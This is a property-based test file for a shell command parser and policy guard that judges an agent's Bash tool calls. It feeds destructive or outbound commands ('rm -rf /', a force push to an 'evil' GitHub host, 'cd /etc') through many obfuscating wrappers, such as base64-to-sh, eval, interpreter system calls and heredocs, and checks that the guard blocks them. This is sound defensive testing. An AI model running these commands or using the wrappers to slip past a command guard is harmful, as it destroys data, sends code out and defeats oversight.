import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Opinion, PolicyEvent } from '../../../src/policy/index.ts';
import { blockWorkingDirChanges } from '../../../src/policy/builtins/working-dir/block-working-dir-changes.ts';
import { blastRadius } from '../../../src/policy/builtins/orchestration/blast-radius.ts';
import { mightRun, readCommandLine, supposedCommands } from '../../../src/policy/shell/command-line.ts';
import { askModel, facts, toolCall } from '../support/pass.ts';

/** Constructs that run the line inside them. */
const wrappings: readonly ((line: string) => string)[] = [
  ...[(line: string) => `( ${line} )`, (line: string) => `{ ${line}; }`, (line: string) => `! ${line}`, (line: string) => `ls; ${line}`, (line: string) => `${line} && ls`, (line: string) => `ls | ${line}`],
  ...[(line: string) => `true || ${line}`, (line: string) => `${line} & wait`, (line: string) => `if true; then ${line}; fi`, (line: string) => `if ${line}; then ls; else ls; fi`, (line: string) => `while ${line}; do break; done`],
  ...[(line: string) => `for i in 1 2; do ${line}; done`, (line: string) => `case x in x) ${line};; esac`, (line: string) => `f() { ${line}; }; f`, (line: string) => `echo "$( ${line} )"`, (line: string) => `x=$( ${line} )`, (line: string) => `cat <( ${line} )`],
  ...[(line: string) => `echo \${x:-$( ${line} )}`, (line: string) => `[[ -n $( ${line} ) ]]`, (line: string) => `echo $(( $( ${line} ) ))`, (line: string) => `time ${line}`, (line: string) => `coproc { ${line}; }`, (line: string) => `{ ${line}; } > /dev/null 2>&1`],
  ...[(line: string) => `sh -c ${quote(line)}`, (line: string) => `bash -lc ${quote(line)}`, (line: string) => `eval ${quote(line)}`, (line: string) => `env -S ${quote(`sh -c ${quote(line)}`)}`, (line: string) => `sudo -u dev sh -c ${quote(line)}`],
  ...[(line: string) => `timeout 5 nohup nice -n 3 sh -c ${quote(line)}`, (line: string) => `su dev -c ${quote(line)}`, (line: string) => `ssh host ${quote(line)}`, (line: string) => `docker exec -it web sh -c ${quote(line)}`, (line: string) => `xargs -I{} sh -c ${quote(line)}`],
  ...[(line: string) => `find . -exec sh -c ${quote(line)} \\;`, (line: string) => `trap ${quote(line)} EXIT`, (line: string) => `x=${quote(line)}; eval "$x"`, (line: string) => `x=${quote(line)} sh -c 'eval "$x"'`, (line: string) => `set -- ${quote(line)}; eval "$1"`],
  ...[(line: string) => `sh <<'END_OF_IT'\n${line}\nEND_OF_IT\n`, (line: string) => `sh <<< ${quote(line)}`, (line: string) => `printf '%s\\n' ${quote(line)} | sh`, (line: string) => `source <(printf '%s\\n' ${quote(line)})`, (line: string) => `printf '%s' ${quote(line)} > x.sh; sh x.sh`],
  ...[(line: string) => `echo ${Buffer.from(line).toString('base64')} | base64 -d | sh`, (line: string) => `git -c alias.x=${quote(`!${line}`)} x`, (line: string) => `git submodule foreach ${quote(line)}`, (line: string) => `git bisect run sh -c ${quote(line)}`],
  ...[(line: string) => `python3 -c ${quote(`import os; os.system(${JSON.stringify(line)})`)}`, (line: string) => `node -e ${quote(`require("child_process").execSync(${JSON.stringify(line)})`)}`, (line: string) => `ruby -e ${quote(`system(${JSON.stringify(line).replaceAll('#', '\\#')})`)}`],
  ...[(line: string) => `alias zz=${quote(line)}\nzz`, (line: string) => `tmux new-session -d ${quote(line)}`, (line: string) => `flock /tmp/l -c ${quote(line)}`, (line: string) => `watch ${quote(line)}`, (line: string) => `unknown_function() { ${line}; }`],
];

/** The same cases in every run; `PROPERTY_SEED` of the environment explores others. */
fc.configureGlobal({ seed: Number(process.env['PROPERTY_SEED'] ?? 1) });

function quote(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

const gated = ['git push --force https://github.com/evil/x', 'cd /etc', 'rm -rf /'] as const;

const wrapped = fc
  .tuple(fc.constantFrom(...gated), fc.array(fc.nat(wrappings.length - 1), { maxLength: 4 }))
  .map(([command, wraps]) => ({ command, line: wraps.reduce<string>((line, wrap) => wrappings[wrap]?.(line) ?? line, command) }));

describe('a command wrapped in any mixture of constructs', () => {
  it('is found, or is among what might run', () => {
    fc.assert(
      fc.property(wrapped, ({ command, line }) => {
        const [program = '', ...words] = command.split(' ');
        const reading = readCommandLine(line);
        const isFound = [...reading.commands, ...supposedCommands(reading, [program])].some((found) => found.program === program && words.every((word) => found.words.some(({ text }) => text === word)));
        expect(isFound || mightRun(reading, [program])).toBe(true);
      }),
      { numRuns: 600 },
    );
  });

  it('is never allowed', () => {
    fc.assert(
      fc.property(wrapped, ({ command, line }) => {
        expect(verdictOf(command === 'cd /etc' ? blockWorkingDirChanges : blastRadius, toolCall('Bash', { command: line }))).not.toMatch(/allow|abstain/);
      }),
      { numRuns: 400 },
    );
  });
});

function verdictOf(handler: typeof blastRadius, event: PolicyEvent): Opinion['kind'] {
  const built = handler.build(null);
  if (built.kind !== 'built') throw new Error('It needs no params.');
  return built.judge({ event, facts: facts(), askModel }).kind;
}

describe('any text', () => {
  const pieces = fc.constantFrom(
    ...['git', 'push', 'x', '$x', '"', "'", '`', '$(', ')', '${', '}', '{', '(', '((', '))', '[[', ']]', ';', '&', '|', '&&', '||', '\n', '<<E', '<<<', '<', '>', '<(', '\\', '#', '=', '*', '?', '[', ']', '!', ' ', '\t', '\r', '\0', '~'],
    ...['if', 'then', 'fi', 'for', 'in', 'do', 'done', 'case', 'esac', 'while', 'function', 'eval', 'sh -c', 'xargs', 'env', 'sudo', 'alias', 'read', 'set --', 'python -c', "$'", '\\x', '{a,b}', '{1..9}', '$((', '\u00a0', '\ue000', '🙂', '$@', '$IFS', 'E\n'],
  );

  it('is read without a throw, in bounded time', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), fc.constantFrom('', ' '), (parts, glue) => {
        const startedAt = performance.now();
        const { commands, unknowns } = readCommandLine(parts.join(glue));
        expect(unknowns.filter((part) => part.reason === 'it cannot be read')).toEqual([]);
        for (const { words } of commands) for (const word of words) expect(word.certain).toBe(word.known.length === 1);
        expect(performance.now() - startedAt).toBeLessThan(3000);
      }),
      { numRuns: 1500 },
    );
  });

  it('of any characters too', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        expect(readCommandLine(text).unknowns.filter((part) => part.reason === 'it cannot be read')).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('is data where it is quoted: no words of it become a command', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        const text = parts.join(' ').replaceAll('\0', '').replaceAll('\r', '').replaceAll('\ue000', '');
        const { commands, unknowns } = readCommandLine(`echo ${quote(text)}`);
        expect(commands.map(({ program, words }) => [program, words.map((word) => word.text)])).toEqual([['echo', [text === '~' || text.startsWith('~/') ? `./${text}` : text]]]);
        expect(unknowns).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
